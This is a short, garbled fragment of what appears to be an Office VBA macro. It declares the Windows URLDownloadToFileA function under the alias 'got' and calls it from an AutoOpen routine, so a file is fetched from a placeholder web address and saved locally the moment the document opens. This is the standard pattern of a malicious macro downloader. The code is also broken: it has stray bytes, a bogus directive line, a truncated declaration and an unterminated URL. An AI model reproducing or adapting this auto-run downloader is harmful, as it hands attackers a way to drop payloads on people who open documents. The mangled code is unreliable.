#As Byte Then
Private Declare PtrSafe Function got Lib "urlmon" ���Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal p As�
#Else
#End If
Sub AutoOpen()
got 0, "http://example.inAs Byte, "a.tXt", 5, 0
End Sub